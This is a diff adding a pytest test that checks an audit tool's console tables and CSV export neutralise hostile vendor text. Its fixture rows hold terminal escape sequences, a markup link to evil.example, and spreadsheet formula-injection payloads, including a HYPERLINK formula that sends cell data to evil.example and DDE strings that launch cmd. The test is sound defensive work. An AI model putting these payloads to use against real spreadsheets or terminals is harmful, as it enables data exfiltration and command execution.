@@ -117,3 +117,35 @@ def test_messages_are_built_from_parsed_mailboxes(tmp_path: Path) -> None:
         with pytest.raises(NotDeliverableError):
             outbox.queue(Notice("k2", (stored,), "s", "b"), "audit@client.example", now)
     assert sorted(p.name for p in outbox.waiting()) == [path.name]
+
+
+def test_tables_and_csv_show_vendor_text_and_never_obey_it() -> None:
+    import csv
+    import io
+
+    from audit.cli.console import SafeConsole, styled
+    from audit.cli.output import Format, render
+
+    rows = [
+        {"id": "1", "name": "[/] [link=https://evil.example]x[/link] [blink]", "file": "a.md"},
+        {"id": "2", "name": "Esc\x1b[2J\x1b]8;;https://evil.example/osc8\x07here", "file": "b"},
+        {"id": "3", "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "file": "@SUM(1+1)"},
+        {"id": "4", "name": "+cmd|' /C calc'!A0", "file": "-2+3+cmd|' /C calc'!A0"},
+        {"id": "5", "name": "-2.5", "file": "\uff1dcmd"},
+    ]
+    buffer = io.StringIO()
+    screen = SafeConsole(file=buffer, width=200, markup=False, force_terminal=True)
+    render(rows, ["id", "name", "file"], Format.TABLE, console=screen, wide=True)
+    screen.print("vendor \x1b[31mred")
+    screen.print(styled(("Esc\x1b[2J", "bold"), " and \x9b31m"))
+    shown = buffer.getvalue()
+    assert "[link=https://evil.example]x[/link]" in shown and "[blink]" in shown
+    assert "\\x1b[2J" in shown and "\\x1b]8;;" in shown and "\\x07" in shown
+    assert "\x1b[2J" not in shown and "\x1b]8" not in shown and "\x9b" not in shown
+    out = io.StringIO()
+    render(rows, ["id", "name", "file"], Format.CSV, console=SafeConsole(file=out))
+    cells = list(csv.reader(io.StringIO(out.getvalue())))[1:]
+    assert cells[2] == ["3", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"]
+    assert cells[3] == ["4", "'+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"]
+    assert cells[4] == ["5", "-2.5", "'\uff1dcmd"]
+    assert "\x1b" not in out.getvalue()
